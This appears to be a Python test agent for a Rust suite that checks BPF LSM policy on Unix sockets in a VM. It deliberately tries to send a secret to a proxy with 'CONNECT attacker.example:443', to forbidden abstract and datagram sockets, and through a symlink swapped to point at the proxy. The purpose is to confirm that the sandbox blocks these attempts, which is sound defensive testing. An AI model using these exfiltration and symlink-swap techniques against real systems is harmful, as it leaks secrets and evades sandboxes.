#!/usr/bin/env python3
"""Agent for tests/tests/unix_lsm.rs (BPF LSM unix hooks, in the VM).

argv[1]: JSON {"dir", "resolver", "proxy", "allowed", "abstract_bad",
"abstract_ok", "dgram_bad", "dgram_ok", "secret"}. Reports one JSON line per
attempt: {"name", "ok", "errno", "reply"}.
"""
import json
import os
import socket
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from unix_agent import dgram_sendto, stream, varlink_call  # noqa: E402

CFG = json.loads(sys.argv[1])
D = CFG["dir"]


def own_helper(addr):
    """A helper of the agent's own (same identity): a forked echo server."""
    lst = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    lst.bind(addr)
    lst.listen(4)
    pid = os.fork()
    if pid == 0:
        c, _ = lst.accept()
        c.sendall(b"helper:" + c.recv(100))
        c.close()
        os._exit(0)
    lst.close()
    return pid


secret = CFG["secret"]
stream("resolver_varlink", CFG["resolver"], varlink_call(secret))
stream("proxy", CFG["proxy"], b"CONNECT attacker.example:443 " + secret.encode())
stream("abstract_bad", "\0" + CFG["abstract_bad"], b"abstract " + secret.encode())
dgram_sendto("dgram_sendto_bad", CFG["dgram_bad"], b"dgram " + secret.encode())
# The agent's own helpers, not listed anywhere: same identity.
pid = own_helper(os.path.join(D, "own-helper.sock"))
stream("own_helper_path", os.path.join(D, "own-helper.sock"), b"hi")
os.waitpid(pid, 0)
pid = own_helper("\0" + CFG["abstract_bad"] + "-own")
stream("own_helper_abstract", "\0" + CFG["abstract_bad"] + "-own", b"hi")
os.waitpid(pid, 0)
# What the policy allows, also through a symlink alias (matched by inode).
stream("allowed_path", CFG["allowed"], b"hello-allowed")
os.symlink(CFG["allowed"], os.path.join(D, "alias.sock"))
stream("allowed_via_symlink", os.path.join(D, "alias.sock"), b"hello-alias")
stream("abstract_ok", "\0" + CFG["abstract_ok"], b"hello-abstract")
dgram_sendto("dgram_sendto_ok", CFG["dgram_ok"], b"hello-dgram")
# The allowed path swapped for a symlink to the proxy: the string still
# matches, the socket does not.
os.rename(CFG["allowed"], os.path.join(D, "allowed-moved.sock"))
os.symlink(CFG["proxy"], CFG["allowed"])
stream("allowed_path_swapped_to_proxy", CFG["allowed"], b"swapped " + secret.encode())
